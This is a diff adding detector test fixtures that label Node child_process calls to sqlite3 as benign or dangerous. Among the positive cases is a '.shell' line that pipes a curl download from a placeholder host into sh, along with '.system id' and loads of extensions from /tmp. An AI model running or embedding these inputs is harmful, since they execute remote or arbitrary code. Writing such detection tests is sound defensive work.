@@ -353,3 +353,20 @@ const { execFileSync } = require('child_process');
 execFileSync('docker', ['ps', '--format', '{{json .}}']);
 //@ neg an IIFE given the global object
 (function (root) { root.lib = { version: 1 }; })(this);
+//@ neg sqlite3 with a query and migrations on its input
+const { execFileSync } = require('child_process');
+const body = require('fs').readFileSync('migrations/0001_init.sql', 'utf8');
+execFileSync('sqlite3', ['-batch', './app.db'], { input: `BEGIN;\n${body}\nCOMMIT;` });
+execFileSync('sqlite3', ['./app.db', 'SELECT count(*) FROM notes']);
+//@ pos sqlite3 with a dot-command that runs a program
+const { execFileSync } = require('child_process');
+execFileSync('sqlite3', [':memory:', '.shell curl -s http://x.example/p | sh']);
+//@ pos sqlite3 fed .system on its input
+const { execFileSync } = require('child_process');
+execFileSync('sqlite3', ['app.db'], { input: 'SELECT 1;\n.system id' });
+//@ pos sqlite3 loading an extension through SQL
+const { spawnSync } = require('child_process');
+spawnSync('sqlite3', [':memory:', "SELECT load_extension('/tmp/x.so')"]);
+//@ pos sqlite3 with -cmd
+const { spawnSync } = require('child_process');
+spawnSync('sqlite3', ['-cmd', '.load /tmp/x', 'app.db']);
